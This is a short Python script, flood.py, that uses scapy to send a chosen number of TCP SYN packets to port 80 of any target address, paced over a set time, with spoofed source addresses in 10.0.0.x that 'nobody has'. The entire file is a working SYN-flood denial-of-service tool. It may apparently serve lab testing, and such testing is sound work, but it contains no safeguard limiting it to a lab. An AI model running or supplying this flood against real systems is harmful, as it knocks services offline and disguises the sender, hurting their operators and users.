# SPDX-License-Identifier: Apache-2.0
"""flood.py ADDRESS COUNT SECONDS [OWN]: so many SYNs to port 80, evenly over the time, from 10.0.0.OWN or addresses that nobody has."""

import sys
import time

from scapy.config import conf
from scapy.layers.inet import IP, TCP

address, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
own = int(sys.argv[4]) if len(sys.argv) > 4 else None
conf.verb = 0
frames = [IP(src=f"10.0.0.{own or 100 + number % 100}", dst=address) / TCP(sport=1024 + number, dport=80) for number in range(count)]
with conf.L3socket() as socket:
    begin = time.monotonic()
    for number, frame in enumerate(frames):
        socket.send(frame)
        time.sleep(max(0.0, begin + seconds * number / count - time.monotonic()))
